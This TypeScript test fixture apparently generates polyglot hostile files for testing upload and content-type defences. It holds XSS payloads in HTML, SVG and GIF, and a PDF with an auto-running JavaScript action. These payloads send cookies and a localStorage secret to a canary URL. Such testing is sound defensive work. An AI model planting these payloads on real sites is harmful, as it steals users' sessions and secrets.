type Hostile = {
  /** They begin like files of their type, or are text. */
  accepted: Record<string, string>;
  /** Their content is of another type than their name says. */
  renamed: Record<string, string>;
};

/** Files whose content is a program that reports to `canaryUrl`, under names of accepted types. */
export function hostileFiles({ canaryUrl }: { canaryUrl: string }): Hostile {
  const script = `localStorage.ran = 'yes'; fetch('${canaryUrl}/ran?' + encodeURIComponent(document.cookie + localStorage.secret)); alert(1);`;
  const html = `<!doctype html><html><body><script>${script}</script><img src=x onerror="${script}"></body></html>`;
  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${script}"><script>${script}</script></svg>`;
  const action = `app.alert(1); this.submitForm('${canaryUrl}/pdf'); app.launchURL('${canaryUrl}/pdf');`;
  const pdf = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${action.replaceAll('(', '\\(').replaceAll(')', '\\)')})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${canaryUrl}/link)>>>>]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;
  return {
    accepted: {
      'page.txt': html,
      'clip.mp4': `\0\0\0\x18ftypisom\0\0\x02\0isom${html}`,
      'song.mp3': `ID3\x04\0\0\0\0\x7f\x7f${html}`,
      'drawing.gif': `GIF89a=1;${script}`,
      'book.pdf': pdf,
      'both.pdf': pdf.replace('%PDF-1.7', `%PDF-1.7\n${html}`),
    },
    renamed: {
      'page.png': html,
      'page.pdf': html,
      'page.zip': html,
      'drawing.mp4': svg,
      'drawing.png': svg,
      'both.pdf': `${html}${pdf}`,
    },
  };
}
